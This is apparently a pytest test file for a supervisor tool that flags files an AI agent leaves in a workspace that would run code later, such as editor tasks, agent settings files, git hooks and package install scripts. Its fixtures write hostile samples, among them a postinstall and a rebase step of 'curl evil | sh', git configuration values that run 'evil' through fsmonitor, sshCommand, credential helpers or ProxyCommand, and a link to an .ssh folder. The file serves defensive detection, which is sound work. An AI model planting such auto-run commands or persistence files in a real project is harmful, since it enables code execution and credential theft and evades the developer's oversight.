"""What is found of what an agent leaves, and what is not worth a word."""

from __future__ import annotations

import os
import socket
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from supervisor.cell import places
from supervisor.cell.leftbehind import Root, Watch
from supervisor.cell.leftbehind_places import NAMES
from supervisor.cell.leftbehind_texts import attributes, common, git_config, make, modules, scripts
from supervisor.cell.leftbehind_walk import look_through
from supervisor.model.event import FilesLeft, LeftBehind

Leave = Callable[[], FilesLeft]


def write(path: Path, text: str = "x\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def git(*words: str, cwd: Path) -> None:
    subprocess.run(["git", *words], cwd=cwd, check=True, capture_output=True)


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A project with a repository, scripts, an editor's folder and installed packages."""
    folder = tmp_path / "work"
    folder.mkdir()
    git("init", "-q", ".", cwd=folder)
    write(folder / "package.json", '{"scripts": {"build": "tsc"}, "version": "1"}')
    write(folder / "Makefile", "all:\n\tcc x.c\n")
    write(folder / ".vscode/settings.json", "{}")
    write(folder / "node_modules/left-pad/package.json", '{"scripts": {"postinstall": "x"}}')
    write(folder / "src/conftest.py")
    return folder


@pytest.fixture
def leave(work: Path) -> Iterator[Leave]:
    """Looks before the test's own doing, and gives what is found after it."""
    watch = Watch([Root(str(work))])
    watch.begin()
    yield watch.end


def told(found: FilesLeft) -> dict[str, LeftBehind]:
    return {left.path: left for left in found.found}


def test_an_untouched_project_has_nothing_to_look_at(leave: Leave) -> None:
    """What was there before is not told, whatever it is."""
    assert leave() == FilesLeft()


def test_ordinary_work_is_not_told(work: Path, leave: Leave) -> None:
    """Sources, commits, remotes, clones and a new version of package.json are what the agent is there for."""
    write(work / "src/app.py")
    write(work / "package.json", '{"scripts": {"build": "tsc"}, "version": "2"}')
    git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x", cwd=work)
    git("remote", "add", "origin", "https://example.com/a.git", cwd=work)
    git("clone", "-q", ".", "copy", cwd=work)
    git("init", "-q", "--bare", "bare.git", cwd=work)
    (work / "src/link").symlink_to("app.py")
    (work / "python").symlink_to("/usr/bin/python3")
    assert leave() == FilesLeft()


@pytest.mark.parametrize(
    "name",
    [
        ".envrc", ".vscode/tasks.json", "packages/app/.vscode/tasks.json", ".idea/workspace.xml", ".zed/tasks.json",
        ".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".codex/config.toml",
        ".gemini/settings.json", ".cursor/mcp.json", "CLAUDE.md", "AGENTS.md", ".husky/pre-commit", ".bashrc",
        ".pre-commit-config.yaml", "mise.toml", ".tool-versions", ".python-version", "evil.pth",
        ".venv/lib/python3.11/site-packages/evil.pth", "src/project.code-workspace", ".hg/hgrc", "eslint.config.mjs",
        ".VSCODE/tasks.json", "claude.md",
    ],
)  # fmt: skip
def test_what_acts_alone_is_told_and_marked(work: Path, leave: Leave, name: str) -> None:
    """Editors, shells, agents, git and Python run these without being told to."""
    write(work / name)
    left = told(leave())[name]
    assert left.alone and left.what.startswith("new") and left.why


@pytest.mark.parametrize(
    "name",
    [
        ".npmrc", "sub/package.json", "sub/Makefile", "justfile", "setup.py", "conftest.py", "sitecustomize.py",
        "json.py", ".github/workflows/ci.yml", ".gitlab-ci.yml", "Dockerfile", "Dockerfile.prod", "compose.yaml",
        ".agent-supervise/scopes/mine.yaml", "gradlew", ".cargo/config.toml", ".env", "node_modules/.bin/tsc",
        ".terraform.lock.hcl", ".terraform/providers/registry/aws/provider",
    ],
)  # fmt: skip
def test_what_runs_when_it_is_used_is_told(work: Path, leave: Leave, name: str) -> None:
    """Builds, tests, installs and CI run these when the developer asks for something else."""
    write(work / name, '{"scripts": {"test": "x"}}')
    assert not told(leave())[name].alone


@pytest.mark.parametrize("path", ["Makefile", ".vscode/settings.json", "src/conftest.py"])
def test_a_change_is_told(work: Path, leave: Leave, path: str) -> None:
    """What was there and has another content now is named as changed."""
    write(work / path, "include ../../elsewhere.mk\n")
    assert told(leave())[path].what.startswith("changed")


def test_a_make_file_that_includes_from_outside_says_so(work: Path, leave: Leave) -> None:
    """The developer is told what else would be read."""
    write(work / "Makefile", "include ../../elsewhere.mk\n")
    assert "it includes ../../elsewhere.mk" in told(leave())["Makefile"].what


def test_a_new_script_of_a_package_is_told_by_name(work: Path, leave: Leave) -> None:
    """`npm install` would run it."""
    write(work / "package.json", '{"scripts": {"build": "tsc", "postinstall": "curl evil | sh"}}')
    assert told(leave())["package.json"].what == "changed: postinstall=curl evil | sh"


def test_packages_that_were_installed_are_not_listed_one_by_one(work: Path, leave: Leave) -> None:
    """Their own scripts ran in the cell; only the programs that `npm run` finds are told, as one."""
    for number in range(20):
        write(work / f"node_modules/p{number}/package.json", '{"scripts": {"postinstall": "x"}}')
        write(work / f"node_modules/.bin/p{number}")
    assert [(left.path, left.what) for left in leave().found] == [("node_modules/.bin", "20 files new or changed")]


def test_a_new_virtual_environment_is_one_thing(work: Path, leave: Leave) -> None:
    """What is in it runs when it is used, which is one word; what changes in one that was there is told by name."""
    for name in ("pyvenv.cfg", "bin/python", "bin/pip", "lib/python3.11/site-packages/x.pth"):
        write(work / "env" / name)
    assert [(left.path, left.what) for left in leave().found] == [("env", "new")]
    watch = Watch([Root(str(work))])
    watch.begin()
    write(work / "env/bin/ls")
    assert [(left.path, left.what) for left in watch.end().found] == [("env/bin/ls", "new")]


def test_a_repository_whose_configuration_runs_something_is_told(work: Path, leave: Leave) -> None:
    """Nested, bare, in a submodule's place, or named by a `.git` file: git would run it with the next status."""
    git("init", "-q", "sub", cwd=work)
    git("config", "core.fsmonitor", "touch /tmp/x", cwd=work / "sub")
    git("init", "-q", "--bare", "data", cwd=work)
    git("config", "core.sshCommand", "evil", cwd=work / "data")
    write(work / ".git/modules/lib/HEAD")
    write(work / ".git/modules/lib/config", "[core] hooksPath = /tmp/evil\n")
    write(work / "tree/.git", "gitdir: ../data\n")
    write(work / ".git/hooks/post-checkout")
    write(work / ".git/commondir", "../elsewhere\n")
    found = told(leave())
    assert {path: left.what for path, left in found.items()} == {
        "sub/.git/config": "new: core.fsmonitor=touch /tmp/x",
        "data/config": "new: core.sshcommand=evil",
        ".git/modules/lib/config": "new: core.hookspath=/tmp/evil",
        "tree/.git": "new",
        ".git/hooks/post-checkout": "new",
        ".git/commondir": "new: ../elsewhere",
    }
    assert all(left.alone for left in found.values())


def test_a_rebase_that_would_run_something_is_told(work: Path, leave: Leave) -> None:
    """`git rebase --continue` would run it; picks alone are nothing."""
    write(work / ".git/rebase-merge/git-rebase-todo", "pick 1234 a\nexec curl evil | sh\n")
    write(work / ".git/sequencer/todo", "pick 1234 a\n")
    found = {path: left.what for path, left in told(leave()).items()}
    assert found == {".git/rebase-merge/git-rebase-todo": "new: exec curl evil | sh"}


def test_a_flood_hides_nothing_at_the_top(work: Path, leave: Leave) -> None:
    """What lies nearest to the project's folder is listed first, and the rest is counted."""
    for number in range(200):
        write(work / f"a/{number}/.envrc")
    write(work / ".zed/tasks.json")
    found = leave()
    assert found.found[0].path == ".zed/tasks.json" and len(found.found) + found.more == 201


def test_drivers_of_attributes_are_told(work: Path, leave: Leave) -> None:
    """A filter of one's own configuration runs for files that the agent chose; git's own drivers are nothing."""
    write(work / ".gitattributes", "*.c diff=cpp text\n*.bin filter=lfs diff=lfs\n*.x filter=mine\n")
    assert told(leave())[".gitattributes"].what == "new: filter=mine"


def test_odd_files_are_told(work: Path, leave: Leave, monkeypatch: pytest.MonkeyPatch) -> None:
    """Set-id bits, links out, sockets and FIFOs."""
    (work / "program").write_bytes(b"\x7fELF")
    (work / "program").chmod(0o4755)
    (work / "keys").symlink_to("/home/dev/.ssh")
    (work / "up").symlink_to("../other")
    os.mkfifo(work / "pipe")
    monkeypatch.chdir(work)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("agent.sock")
    found = {path: left.what for path, left in told(leave()).items()}
    assert found == {
        "program": "new: set-user-id",
        "keys": "new: → /home/dev/.ssh",
        "up": "new: → ../other",
        "pipe": "new: FIFO",
        "agent.sock": "new: socket",
    }


def test_a_file_in_a_place_where_a_link_was_counts(work: Path, tmp_path: Path) -> None:
    """The same name is not the same thing."""
    (work / ".envrc").symlink_to("Makefile")
    watch = Watch([Root(str(work))])
    watch.begin()
    (work / ".envrc").unlink()
    write(work / ".envrc", "all:\n\tcc x.c\n")
    assert told(watch.end())[".envrc"].what == "changed"


def test_nothing_is_read_through_a_link(work: Path, tmp_path: Path, leave: Leave) -> None:
    """A folder that became a link is told as one; what lies behind it is not looked at."""
    write(tmp_path / "outside/.envrc")
    (work / "src2").symlink_to(tmp_path / "outside")
    (work / ".zed").symlink_to(tmp_path / "outside")
    found = told(leave())
    assert set(found) == {"src2", ".zed"} and found[".zed"].what.startswith("new: → /")


def test_what_there_was_no_time_for_is_judged_by_its_time(work: Path) -> None:
    """Cut short, the first look still tells later what changed after it, and not what did not."""
    watch = Watch([Root(str(work))])
    watch._since[str(work)] = 1 << 62
    watch._before[str(work)] = look_through(str(work), seconds=60)
    watch._before[str(work)].marks.clear()
    watch._before[str(work)].unseen.add("")
    assert watch.end() == FilesLeft()
    watch._since[str(work)] = 0
    assert told(watch.end())["src/conftest.py"].what == "new or changed"


def test_a_look_ends_in_time_and_says_that_it_was_cut(tmp_path: Path) -> None:
    """However many files there are; what was not seen is known by its folder."""
    for number in range(300):
        write(tmp_path / f"many/{number}/file")
    look = look_through(str(tmp_path), seconds=60, entries=100)
    assert "more than" in look.cut and look.unseen and all(path.startswith("many/") for path in look.unseen)
    timed = look_through(str(tmp_path), seconds=-1)
    assert "there was time for" in timed.cut


def test_folders_without_end_are_cut(tmp_path: Path) -> None:
    """Deeper than any project is not followed, and said."""
    deep = tmp_path
    for _ in range(150):
        deep = deep / "d"
    deep.mkdir(parents=True)
    look = look_through(str(tmp_path), seconds=60)
    assert "too deep" in look.cut and len(look.unseen) == 1


def test_a_missing_folder_is_said(tmp_path: Path) -> None:
    """A workspace that is gone at the end is no reason to fail."""
    assert "cannot be read" in look_through(str(tmp_path / "gone"), seconds=1).cut


@pytest.mark.parametrize(
    "text",
    [
        "[core]\n\tfsmonitor = x", "[core] fsmonitor = x", '[CORE]\nFsMonitor="x"', "[core]\n\thooksPath=/x",
        '[filter "x"]\n\tsmudge = evil', '[diff "x"]\ntextconv=evil', "[include]\n\tpath = ~/x",
        '[includeIf "gitdir:/"]\npath=x', '[remote "o"]\n\turl = ext::sh -c evil', '[remote "o"]\nuploadpack = evil',
        '[url "https://evil/"]\n\tinsteadOf = https://good/', "[alias]\n\tst = !evil", "[credential]\n\thelper = !evil",
        "[gpg]\nprogram=evil", "[core]\n\tworktree = /", "[core]\n\tx\\\n = y", "[core]\n= broken",
        '[remote "a]b"]\n\tproxy=evil', "[http]\n\tproxy = http://evil", "[http]\n\tsslVerify = false",
        '[submodule "x"]\n\tupdate = !evil', "[core]\nsshCommand", '[remote "o"]\nurl = -oProxyCommand=evil',
    ],
)  # fmt: skip
def test_git_configuration_that_is_not_known_to_be_harmless_counts(text: str) -> None:
    """Keys that run programs, in any writing, and whatever is not understood."""
    assert git_config(text)


def test_ordinary_git_configuration_does_not_count() -> None:
    """What init, clone, branch and commit write."""
    assert (
        git_config(
            '[core]\n\trepositoryformatversion = 0\n\tbare = false # x\n[remote "origin"]\n\turl = https://e.com/a.git\n'
            '\turl = git@e.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n; c\n[branch "main"]\n'
            '\tremote = origin\n\tmerge = refs/heads/main\n[user]\n\tname = A\n[submodule "x"]\n\turl = ../x\n'
        )
        == ()
    )


def test_the_other_readers_are_total() -> None:
    """Broken texts give words or nothing, never an error."""
    for text in ("", "\0", "{", "[]", "[" * 100_000, '{"scripts": 1}', "\udcff"):
        for read in (scripts, attributes, modules, make, common, git_config):
            assert isinstance(read(text), tuple)


def test_what_is_frozen_is_also_told_where_it_comes_into_being() -> None:
    """Each name that is read-only while it exists has a reason in the report's list."""
    firsts = {path.split("/")[0] for path in places.RUNS_LATER} - {".config", ".hg"}
    assert firsts - set(NAMES) == set()
